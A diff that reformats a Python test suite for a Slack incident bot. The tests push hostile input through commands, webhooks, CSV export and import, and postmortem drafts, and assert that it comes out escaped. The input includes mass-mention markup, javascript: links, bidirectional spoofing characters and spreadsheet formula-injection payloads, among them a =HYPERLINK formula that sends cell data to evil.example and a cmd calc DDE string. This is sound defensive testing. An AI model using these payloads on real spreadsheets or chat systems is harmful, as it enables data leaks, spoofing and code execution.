@@ -61,8 +61,20 @@ def injections(text: str) -> list[str]:
 
 # Keys of Block Kit and view objects that Slack never renders as mrkdwn or message text.
 NOT_RENDERED = {
-    "action_id", "block_id", "callback_id", "value", "private_metadata", "initial_value", "type", "initial_user",
-    "initial_date_time", "initial_date", "style", "hash", "external_id", "max_length",
+    "action_id",
+    "block_id",
+    "callback_id",
+    "value",
+    "private_metadata",
+    "initial_value",
+    "type",
+    "initial_user",
+    "initial_date_time",
+    "initial_date",
+    "style",
+    "hash",
+    "external_id",
+    "max_length",
 }
 
 
@@ -99,17 +111,36 @@ def hostile_incident(*, restored: bool = True) -> IncidentRecord:
     if restored:
         stamps[Stamp.VERIFIED] = StampValue(T0 + timedelta(minutes=40), "U_BOB")
     return IncidentRecord(
-        id=7, title=HOSTILE, severity="P1", service=HOSTILE, status="resolved" if restored else "open",
-        detection_method="engineer", opened_by="U_ALICE", commander="U_ALICE", channel_id="C0WARROOM",
-        channel_name="inc-7", control_message_ts="1700000000.000100", timeline=Timeline(T0, stamps), created_at=T0,
-        rollback_owner="U_BOB", acknowledged_at=T0 + timedelta(minutes=2), acknowledged_by="U_BOB",
+        id=7,
+        title=HOSTILE,
+        severity="P1",
+        service=HOSTILE,
+        status="resolved" if restored else "open",
+        detection_method="engineer",
+        opened_by="U_ALICE",
+        commander="U_ALICE",
+        channel_id="C0WARROOM",
+        channel_name="inc-7",
+        control_message_ts="1700000000.000100",
+        timeline=Timeline(T0, stamps),
+        created_at=T0,
+        rollback_owner="U_BOB",
+        acknowledged_at=T0 + timedelta(minutes=2),
+        acknowledged_by="U_BOB",
     )
 
 
 def hostile_deploy() -> DeployMatch:
     record = DeployRecord(
-        id=3, service=HOSTILE, version=HOSTILE, environment=HOSTILE, deployed_at=T0, author=HOSTILE,
-        url="https://ci.example/pull/1?x=<!channel>|<http://evil.example|x>", description=HOSTILE, source="webhook",
+        id=3,
+        service=HOSTILE,
+        version=HOSTILE,
+        environment=HOSTILE,
+        deployed_at=T0,
+        author=HOSTILE,
+        url="https://ci.example/pull/1?x=<!channel>|<http://evil.example|x>",
+        description=HOSTILE,
+        source="webhook",
         recorded_at=T0,
     )
     return DeployMatch(record, 12)
@@ -117,16 +148,23 @@ def hostile_deploy() -> DeployMatch:
 
 def hostile_action_item() -> ActionItemRecord:
     return ActionItemRecord(
-        id=1, incident_id=7, incident_private=False, text=HOSTILE, owner="U_BOB", due=date(2026, 11, 30), status="open",
-        created_by="U_ALICE", done_by=None, done_at=None,
+        id=1,
+        incident_id=7,
+        incident_private=False,
+        text=HOSTILE,
+        owner="U_BOB",
+        due=date(2026, 11, 30),
+        status="open",
+        created_by="U_ALICE",
+        done_by=None,
+        done_at=None,
     )
 
 
 def hostile_facts():
     """Four weeks of incidents on a service with a hostile name, a few still open."""
     return [
-        facts_from_minutes(n + 1, T0 - timedelta(days=2 * n), (2, 10, 5, 3), severity="P2", service=HOSTILE,
-                           stamps=4 if n % 5 else 1)
+        facts_from_minutes(n + 1, T0 - timedelta(days=2 * n), (2, 10, 5, 3), severity="P2", service=HOSTILE, stamps=4 if n % 5 else 1)
         for n in range(14)
     ]
 
@@ -144,33 +182,93 @@ def hostile_digest_incident():
 
 
 def hostile_correction_records():
-    return [SimpleNamespace(action="correct_time", old_value=T0.isoformat(), new_value=(T0 + timedelta(minutes=1)).isoformat(),
-                            field="mitigated_at", actor="U_ALICE", at=T0, reason=HOSTILE)]
+    return [
+        SimpleNamespace(
+            action="correct_time",
+            old_value=T0.isoformat(),
+            new_value=(T0 + timedelta(minutes=1)).isoformat(),
+            field="mitigated_at",
+            actor="U_ALICE",
+            at=T0,
+            reason=HOSTILE,
+        )
+    ]
 
 
 # Parameters whose value the bot builds itself (an ID it validated, a Slack date token, a line
 # another swept builder rendered): a valid sample. Every other text parameter gets HOSTILE.
 BOT_BUILT: dict[str, Any] = {
-    "reference": "INC-7", "user": "U_ALICE", "by": "U_ALICE", "owner": "U_BOB", "earlier_by": "U_BOB",
-    "who": "the incident commander", "channel_id": "C0WARROOM", "severity": "P1", "before": "P2", "after": "5 min",
-    "stamp": "mitigated", "at_token": "<!date^1763906400^{time}|14:00 UTC>", "earlier_token": "<!date^1763906400^{time}|14:00 UTC>",
-    "closed_token": "<!date^1763906400^{time}|14:00 UTC>", "ends_token": "<!date^1763906400^{time}|14:00 UTC>",
-    "since_detection": "5 min", "restore": "1 h", "within": "2 h", "window": "30 min", "quiet": "30 min",
-    "why": "nobody acknowledged it within 5 min", "targets": "<@U_BOB> and <!subteam^S0ONCALL>",
-    "described": "*mitigated* from 14:00 UTC to 14:05 UTC", "which": "open", "scope": "in INC-7", "what": "The update",
-    "label": "Commander", "role": "commander", "post_id": 4, "chunk": 0, "item_id": 9, "deploy_id": 3,
+    "reference": "INC-7",
+    "user": "U_ALICE",
+    "by": "U_ALICE",
+    "owner": "U_BOB",
+    "earlier_by": "U_BOB",
+    "who": "the incident commander",
+    "channel_id": "C0WARROOM",
+    "severity": "P1",
+    "before": "P2",
+    "after": "5 min",
+    "stamp": "mitigated",
+    "at_token": "<!date^1763906400^{time}|14:00 UTC>",
+    "earlier_token": "<!date^1763906400^{time}|14:00 UTC>",
+    "closed_token": "<!date^1763906400^{time}|14:00 UTC>",
+    "ends_token": "<!date^1763906400^{time}|14:00 UTC>",
+    "since_detection": "5 min",
+    "restore": "1 h",
+    "within": "2 h",
+    "window": "30 min",
+    "quiet": "30 min",
+    "why": "nobody acknowledged it within 5 min",
+    "targets": "<@U_BOB> and <!subteam^S0ONCALL>",
+    "described": "*mitigated* from 14:00 UTC to 14:05 UTC",
+    "which": "open",
+    "scope": "in INC-7",
+    "what": "The update",
+    "label": "Commander",
+    "role": "commander",
+    "post_id": 4,
+    "chunk": 0,
+    "item_id": 9,
+    "deploy_id": 3,
     # Lines that swept builders render (deploy_line, ActionItemRecord.line, correction_notes, the failures of a step).
-    "line": deploy_line(hostile_deploy()), "done_line": "Done by <@U_BOB>",
+    "line": deploy_line(hostile_deploy()),
+    "done_line": "Done by <@U_BOB>",
     "lines": [deploy_line(hostile_deploy()), hostile_action_item().line(date(2026, 11, 23))],
-    "failures": ["the war room was not told (channel_not_found)"], "done": ["created <#C0WARROOM>"],
-    "already": ["the pinned control message"], "commander": "U_ALICE",
+    "failures": ["the war room was not told (channel_not_found)"],
+    "done": ["created <#C0WARROOM>"],
+    "already": ["the pinned control message"],
+    "commander": "U_ALICE",
     "corrections": corrections.correction_notes(hostile_correction_records()),
-    "labels": {name: label for name, (_, label) in corrections.TIME_FIELDS.items()}, "war_rooms": {1: "C0WARROOM"}, "checked": {0}, "private_metadata": {"channel_id": "C0WARROOM"},
-    "group_resolved": True, "still_open": True, "implied": False, "created": True, "private": False,
-    "confidence": 0.95, "min_count": 5, "count": 3, "seconds": 125.0, "fraction": 0.25, "low": 60.0, "high": 600.0,
-    "per_week": 3, "detectable": 0.4, "now": T0, "week_start": T0 - timedelta(days=7), "start": T0,
-    "percentiles": True, "interval": True, "mrkdwn": True, "limit": 3000, "max_lines": 25,
-    "grouping": "service", "by": "service", "of": "incidents", "today": date(2026, 11, 23),
+    "labels": {name: label for name, (_, label) in corrections.TIME_FIELDS.items()},
+    "war_rooms": {1: "C0WARROOM"},
+    "checked": {0},
+    "private_metadata": {"channel_id": "C0WARROOM"},
+    "group_resolved": True,
+    "still_open": True,
+    "implied": False,
+    "created": True,
+    "private": False,
+    "confidence": 0.95,
+    "min_count": 5,
+    "count": 3,
+    "seconds": 125.0,
+    "fraction": 0.25,
+    "low": 60.0,
+    "high": 600.0,
+    "per_week": 3,
+    "detectable": 0.4,
+    "now": T0,
+    "week_start": T0 - timedelta(days=7),
+    "start": T0,
+    "percentiles": True,
+    "interval": True,
+    "mrkdwn": True,
+    "limit": 3000,
+    "max_lines": 25,
+    "grouping": "service",
+    "by": "service",
+    "of": "incidents",
+    "today": date(2026, 11, 23),
     "records": hostile_correction_records(),
 }
 
@@ -216,7 +314,15 @@ BY_ANNOTATION: dict[str, Callable[[], Any]] = {
 }
 
 BUILDER_MODULES: tuple[ModuleType, ...] = (
-    messages, blocks, summary, runbook_blocks, stats_view, digest, deploys, action_items, corrections,
+    messages,
+    blocks,
+    summary,
+    runbook_blocks,
+    stats_view,
+    digest,
+    deploys,
+    action_items,
+    corrections,
 )
 
 # Public functions of those modules that build nothing Slack renders, and why.
@@ -305,9 +411,16 @@ def hostile_arguments(name: str, function: Callable[..., Any]) -> tuple[list[Any
 def test_the_sweep_finds_the_builders():
     names = {name for name, _ in SWEPT}
     assert len(SWEPT) > 90
-    for expected in ("bot.slack.messages.escalation_announcement", "bot.slack.blocks.control_message", "bot.analytics.summary.summary_blocks",
-                     "bot.slack.runbook_blocks.runbook_message", "bot.analytics.stats_view.home_view", "bot.analytics.digest.build_digest",
-                     "bot.integrations.deploys.deploy_line", "bot.incidents.corrections.correction_notes"):
+    for expected in (
+        "bot.slack.messages.escalation_announcement",
+        "bot.slack.blocks.control_message",
+        "bot.analytics.summary.summary_blocks",
+        "bot.slack.runbook_blocks.runbook_message",
+        "bot.analytics.stats_view.home_view",
+        "bot.analytics.digest.build_digest",
+        "bot.integrations.deploys.deploy_line",
+        "bot.incidents.corrections.correction_notes",
+    ):
         assert expected in names
     assert not set(NOT_SLACK_TEXT) - {name for name, _ in builders()}, "NOT_SLACK_TEXT names a function that is gone"
 
@@ -327,11 +440,24 @@ def test_the_sweep_sees_the_hostile_text_arrive_escaped():
         args, kwargs = hostile_arguments(name, function)
         if any(SHOWN_ESCAPED in text for text in rendered_texts(function(*args, **kwargs))):
             echoed.add(name)
-    for expected in ("bot.slack.messages.escalation_dm", "bot.slack.messages.escalation_announcement", "bot.slack.messages.update_announcement",
-                     "bot.slack.messages.role_dm", "bot.slack.messages.breakglass_in_war_room", "bot.slack.messages.alert_refiring_line",
-                     "bot.slack.messages.typed_text_refused", "bot.slack.blocks.notification_text", "bot.slack.blocks.channel_topic", "bot.slack.blocks.announcement_blocks",
-                     "bot.slack.blocks.control_message", "bot.analytics.summary.summary_blocks", "bot.slack.runbook_blocks.runbook_message",
-                     "bot.analytics.digest.build_digest", "bot.integrations.deploys.deploy_line", "bot.incidents.corrections.correction_notes"):
+    for expected in (
+        "bot.slack.messages.escalation_dm",
+        "bot.slack.messages.escalation_announcement",
+        "bot.slack.messages.update_announcement",
+        "bot.slack.messages.role_dm",
+        "bot.slack.messages.breakglass_in_war_room",
+        "bot.slack.messages.alert_refiring_line",
+        "bot.slack.messages.typed_text_refused",
+        "bot.slack.blocks.notification_text",
+        "bot.slack.blocks.channel_topic",
+        "bot.slack.blocks.announcement_blocks",
+        "bot.slack.blocks.control_message",
+        "bot.analytics.summary.summary_blocks",
+        "bot.slack.runbook_blocks.runbook_message",
+        "bot.analytics.digest.build_digest",
+        "bot.integrations.deploys.deploy_line",
+        "bot.incidents.corrections.correction_notes",
+    ):
         assert expected in echoed, f"{expected} did not show the hostile text (escaped)"
 
 
@@ -341,8 +467,13 @@ def test_the_bots_own_sentences_hold_no_stray_slack_markup():
     import ast
 
     for module in (messages,):
-        defined_here = {target.id for node in ast.parse(inspect.getsource(module)).body if isinstance(node, ast.Assign)
-                        for target in node.targets if isinstance(target, ast.Name)}
+        defined_here = {
+            target.id
+            for node in ast.parse(inspect.getsource(module)).body
+            if isinstance(node, ast.Assign)
+            for target in node.targets
+            if isinstance(target, ast.Name)
+        }
         for name in defined_here:
             value = getattr(module, name)
             if name.isupper() and isinstance(value, str):
@@ -380,8 +511,23 @@ def test_storable_removes_bidirectional_controls_and_keeps_the_rest():
 # Spreadsheet formulas
 
 
-@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-                                  "\tx", "\rx", "'=already quoted", "''@twice", "'plain", "plain", "", "-"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        "'=already quoted",
+        "''@twice",
+        "'plain",
+        "plain",
+        "",
+        "-",
+    ],
+)
 def test_a_spreadsheet_cell_never_starts_a_formula_and_reads_back_as_stored(text):
     cell = spreadsheet_cell(text)
     assert not re.match(r"[=+\-@\t\r]", cell)
@@ -396,15 +542,31 @@ ESCALATION_CONTACT = "U02HX4TB9LC"  # checkout-web's escalation in runbooks/cata
 # What Slack sends for a command in which someone typed @channel, @here, @everyone, a mention,
 # a link, "&" and "<script>" (``should_escape: true``: mentions and links as Slack markup, and
 # "&", "<" and ">" as entities), plus a Markdown link for the postmortem draft.
-TYPED = ("<!channel> <!here> <!everyone> <@U0HOSTILE|eve> <http://evil.example|x> &amp; &lt;script&gt; "
-         "[click](javascript:alert(1))")
+TYPED = "<!channel> <!here> <!everyone> <@U0HOSTILE|eve> <http://evil.example|x> &amp; &lt;script&gt; [click](javascript:alert(1))"
 # Single words as Slack sends them, each where the bot expects a token, and those commands.
 WORDS = ("<!channel>", "<@U0HOSTILE|eve>", "<http://evil.example|x>", "&lt;script&gt;")
-ONE_WORD_COMMANDS = ("{}", "deploys {}", "deploys checkout-web {}", "deploy {} v1", "deploy checkout-web {}", "stats {}",
-                     "stats service:{}", "stats sev:{}", "severity {}", "role {} <@U_BOB|bob>",
-                     "action Fix it due:{}", "actions {}", "reopen {}", "repair {}",
-                     "open Title sev:{}", "open Title started:{}", "open Title detected:{}", "open Title service:{}",
-                     "open Title detection:{}", "runbook {}")
+ONE_WORD_COMMANDS = (
+    "{}",
+    "deploys {}",
+    "deploys checkout-web {}",
+    "deploy {} v1",
+    "deploy checkout-web {}",
+    "stats {}",
+    "stats service:{}",
+    "stats sev:{}",
+    "severity {}",
+    "role {} <@U_BOB|bob>",
+    "action Fix it due:{}",
+    "actions {}",
+    "reopen {}",
+    "repair {}",
+    "open Title sev:{}",
+    "open Title started:{}",
+    "open Title detected:{}",
+    "open Title service:{}",
+    "open Title detection:{}",
+    "runbook {}",
+)
 PERSON_SLOTS = ("role scribe {}", "action Fix it {}")
 # The same, without the person mention (an action item's mention names its owner).
 TYPED_ACTION = "<!channel> <!here> <!everyone> <http://evil.example|x> &amp; &lt;script&gt; [click](javascript:alert(1))"
@@ -474,33 +636,68 @@ async def test_hostile_text_through_every_surface_never_reaches_slack_live(hook_
     room = incident.channel_id
 
     # Every command that echoes or stores text, in the war room and outside it.
-    for text in (f"note {TYPED}", f"update {TYPED}", f"breakglass {TYPED}", f"action {TYPED_ACTION} <@U_BOB|bob>",
-                 "role scribe <@U_CAROL|carol>", f"runbook {TYPED}", f"status {TYPED}", f"ack {TYPED}", TYPED,
-                 f"deploy checkout-web {TYPED}", f"deploys {TYPED}", f"actions {TYPED}", "status", "actions",
-                 # One hostile word where a token is expected: the answer names the word it could not read.
-                 *(template.format(word) for word in WORDS for template in ONE_WORD_COMMANDS),
-                 # Where a mention names a person (a role holder, an owner), the other words.
-                 *(template.format(word) for word in WORDS if not word.startswith("<@") for template in PERSON_SLOTS)):
+    for text in (
+        f"note {TYPED}",
+        f"update {TYPED}",
+        f"breakglass {TYPED}",
+        f"action {TYPED_ACTION} <@U_BOB|bob>",
+        "role scribe <@U_CAROL|carol>",
+        f"runbook {TYPED}",
+        f"status {TYPED}",
+        f"ack {TYPED}",
+        TYPED,
+        f"deploy checkout-web {TYPED}",
+        f"deploys {TYPED}",
+        f"actions {TYPED}",
+        "status",
+        "actions",
+        # One hostile word where a token is expected: the answer names the word it could not read.
+        *(template.format(word) for word in WORDS for template in ONE_WORD_COMMANDS),
+        # Where a mention names a person (a role holder, an owner), the other words.
+        *(template.format(word) for word in WORDS if not word.startswith("<@") for template in PERSON_SLOTS),
+    ):
         await command(text, channel=room)
     await command(f"open {TYPED} sev:P2 service:checkout-web")  # INC-2, titled from a command
 
     # Webhooks: a deploy and an alert whose every text field is hostile.
-    status, body = await post_hook(bot, "/hooks/deploys", {
-        "service": "checkout-web", "version": HOSTILE, "environment": "production", "author": HOSTILE,
-        "description": HOSTILE, "url": "https://ci.example/pull/1?x=<!channel>",
-    })
+    status, body = await post_hook(
+        bot,
+        "/hooks/deploys",
+        {
+            "service": "checkout-web",
+            "version": HOSTILE,
+            "environment": "production",
+            "author": HOSTILE,
+            "description": HOSTILE,
+            "url": "https://ci.example/pull/1?x=<!channel>",
+        },
+    )
     assert status in (200, 201), body
     await command("deploys checkout-web", channel=room)
-    alert = {"service": "checkout-web", "title": HOSTILE, "status": "firing", "dedup_key": "hostile", "severity": "critical",
-             "description": HOSTILE, "started_at": T0.isoformat().replace("+00:00", "Z")}
+    alert = {
+        "service": "checkout-web",
+        "title": HOSTILE,
+        "status": "firing",
+        "dedup_key": "hostile",
+        "severity": "critical",
+        "description": HOSTILE,
+        "started_at": T0.isoformat().replace("+00:00", "Z"),
+    }
     status, body = await post_hook(bot, "/hooks/alerts", alert)
     assert status in (200, 201, 202), body
     await bot.settle()
 
     # App Home, as a responder opens it.
-    event = {"token": "x", "team_id": "T0001", "api_app_id": "A0001", "type": "event_callback", "event_id": "Ev0INJECT",
-             "event_time": int(T0.timestamp()), "authorizations": [],
-             "event": {"type": "app_home_opened", "user": "U_BOB", "channel": "D0BOB", "tab": "home", "event_ts": "1.000001"}}
+    event = {
+        "token": "x",
+        "team_id": "T0001",
+        "api_app_id": "A0001",
+        "type": "event_callback",
+        "event_id": "Ev0INJECT",
+        "event_time": int(T0.timestamp()),
+        "authorizations": [],
+        "event": {"type": "app_home_opened", "user": "U_BOB", "channel": "D0BOB", "tab": "home", "event_ts": "1.000001"},
+    }
     assert (await bot.slack.post(json.dumps(event), "application/json")).status == 200
     await fake_slack.wait_for_call("views.publish")
     await bot.settle()
@@ -513,13 +710,15 @@ async def test_hostile_text_through_every_surface_never_reaches_slack_live(hook_
     await bot.settle()
 
     # The alert resolves; INC-1 is stamped to verified: summary, postmortem draft, action items.
-    status, body = await post_hook(bot, "/hooks/alerts", {**alert, "status": "resolved",
-                                                          "ended_at": clock().isoformat().replace("+00:00", "Z")})
+    status, body = await post_hook(
+        bot, "/hooks/alerts", {**alert, "status": "resolved", "ended_at": clock().isoformat().replace("+00:00", "Z")}
+    )
     assert status in (200, 201, 202), body
     for minute, stamp in ((32, "diagnosed"), (33, "mitigated"), (34, "verified")):
         clock.at(minute)
-        response = await bot.slack.block_action(f"stamp_phase_{stamp}", "1", user="U_ALICE", channel=room,
-                                                message_ts=incident.control_message_ts)
+        response = await bot.slack.block_action(
+            f"stamp_phase_{stamp}", "1", user="U_ALICE", channel=room, message_ts=incident.control_message_ts
+        )
         assert response.status == 200
         answers.append(response.text)
         await bot.settle()
@@ -549,8 +748,14 @@ async def test_hostile_text_through_every_surface_never_reaches_slack_live(hook_
 # ---------------------------------------------------------------------------------------------
 # CSV files: export, import, statistics
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
-            "'=quoted by hand", "Plain title"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "'=quoted by hand",
+    "Plain title",
+]
 
 
 def csv_cells(text: str) -> list[str]:
@@ -558,8 +763,10 @@ def csv_cells(text: str) -> list[str]:
 
 
 def test_every_csv_cell_that_a_spreadsheet_would_run_is_quoted():
-    facts = [facts_from_minutes(n + 1, T0 - timedelta(days=n), (2, 10, 5, 3), severity="P2", service=FORMULAS[n % len(FORMULAS)])
-             for n in range(12)]
+    facts = [
+        facts_from_minutes(n + 1, T0 - timedelta(days=n), (2, 10, 5, 3), severity="P2", service=FORMULAS[n % len(FORMULAS)])
+        for n in range(12)
+    ]
     report = build_report(facts, since=T0 - timedelta(days=30), until=T0, now=T0, tiers=TIERS)
     cells = csv_cells(report_csv(report, "service"))
     assert "'" + FORMULAS[0] in cells
@@ -572,8 +779,18 @@ async def test_an_exported_csv_runs_no_formula_and_imports_back_as_stored(cli_db
     writer = csv.writer(source, lineterminator="\n")
     writer.writerow(["id", "title", "severity", "service", "detection_method", "started_at", "detected_at", "verified_at"])
     for n, title in enumerate(FORMULAS):
-        writer.writerow(["=1+1" if n == 0 else f"X-{n}", title, "P2", "payments-api", "alert", "2026-03-02T09:12:00Z",
-                         "2026-03-02T09:15:30Z", "2026-03-02T10:20:00Z"])
+        writer.writerow(
+            [
+                "=1+1" if n == 0 else f"X-{n}",
+                title,
+                "P2",
+                "payments-api",
+                "alert",
+                "2026-03-02T09:12:00Z",
+                "2026-03-02T09:15:30Z",
+                "2026-03-02T10:20:00Z",
+            ]
+        )
     (work / "in.csv").write_text(source.getvalue())
     result = run(work, "import", "in.csv", "--format", "csv", database_url=url)
     assert result.returncode == 0, result.stderr
@@ -619,11 +836,16 @@ def rendered_draft(text: str) -> str:
     multiline = TimelineEntry(T0 + timedelta(minutes=4), None, "slack_step_failed", f"{text}\n[ref]: javascript:alert(1)\n- [ref2]: data:x")
     breakglass = TimelineEntry(T0 + timedelta(minutes=5), "U_BOB", "breakglass", f"Break-glass access: {text}")
     return render_postmortem(
-        load_template(), incident, [note, multiline, breakglass], summary.summarize(incident, TIERS), generated_at=T0,
+        load_template(),
+        incident,
+        [note, multiline, breakglass],
+        summary.summarize(incident, TIERS),
+        generated_at=T0,
         names={"U_ALICE": "<b>alice</b>", "U_BOB": "[bob](javascript:alert(1))"},
         changes=Changes(True, "2 h", (deploy_line(hostile_deploy(), mrkdwn=False),)),
         corrections=corrections.correction_notes([SimpleNamespace(**{**vars(hostile_correction_records()[0]), "reason": text})]),
-        breakglass=[breakglass], action_items=[ActionLine(text, "<i>owner</i>", "2026-12-01", "open")],
+        breakglass=[breakglass],
+        action_items=[ActionLine(text, "<i>owner</i>", "2026-12-01", "open")],
     )
 
 
@@ -659,7 +881,7 @@ async def stored_texts(db) -> list[tuple[str, str, str]]:
         for table in Base.metadata.sorted_tables:
             for row in (await session.execute(select(table))).mappings():
                 for column, value in row.items():
-                    for text in ([value] if isinstance(value, str) else rendered_json_texts(value)):
+                    for text in [value] if isinstance(value, str) else rendered_json_texts(value):
                         found.append((table.name, column, text))
     return found
 
@@ -691,16 +913,33 @@ async def test_bidirectional_controls_are_stored_from_no_surface(hook_bot, fake_
         assert (await bot.slack.command(text, channel=incident.channel_id)).status == 200
         await bot.settle()
     await command_form_open(bot, fake_slack, SPOOF)
-    status, body = await post_hook(bot, "/hooks/deploys", {"service": "checkout-web", "version": f"v1{SPOOF[:12]}",
-                                                          "author": SPOOF, "description": SPOOF, "environment": "prod\u202e"})
+    status, body = await post_hook(
+        bot,
+        "/hooks/deploys",
+        {"service": "checkout-web", "version": f"v1{SPOOF[:12]}", "author": SPOOF, "description": SPOOF, "environment": "prod\u202e"},
+    )
     assert status in (200, 201), body
-    status, body = await post_hook(bot, "/hooks/alerts", {"service": "payments-api", "title": SPOOF, "status": "firing",
-                                                         "dedup_key": f"k{SPOOF}", "severity": "warning", "description": SPOOF})
+    status, body = await post_hook(
+        bot,
+        "/hooks/alerts",
+        {
+            "service": "payments-api",
+            "title": SPOOF,
+            "status": "firing",
+            "dedup_key": f"k{SPOOF}",
+            "severity": "warning",
+            "description": SPOOF,
+        },
+    )
     assert status in (200, 201, 202), body
     await bot.settle()
     source = io.StringIO()
-    csv.writer(source).writerows([["id", "title", "severity", "started_at", "detected_at"],
-                                  ["EXT\u202e-1", SPOOF, "P3", "2026-03-02T09:12:00Z", "2026-03-02T09:15:30Z"]])
+    csv.writer(source).writerows(
+        [
+            ["id", "title", "severity", "started_at", "detected_at"],
+            ["EXT\u202e-1", SPOOF, "P3", "2026-03-02T09:12:00Z", "2026-03-02T09:15:30Z"],
+        ]
+    )
     parsed = parse_file(source.getvalue().encode(), "csv", now=T0)
     assert parsed.problems == []
     await Importer(bot.runtime.db, clock).run(parsed, origin="spoof.csv")
